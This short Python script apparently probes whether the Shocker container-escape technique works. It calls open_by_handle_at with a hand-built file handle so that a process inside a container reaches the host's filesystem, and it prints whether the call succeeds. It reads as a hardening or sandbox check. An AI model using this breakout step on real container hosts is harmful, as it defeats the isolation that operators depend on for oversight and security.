# wants: a file of the machine by its handle, past all folders (the "shocker" way)
# held by: no privilege in the box
import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
folder = os.open("/etc", os.O_RDONLY)
handle = struct.pack("<IiQ", 8, 1, 2)
done = libc.open_by_handle_at(folder, handle, os.O_RDONLY) >= 0
print("GOT" if done else "REFUSED", os.strerror(ctypes.get_errno()))
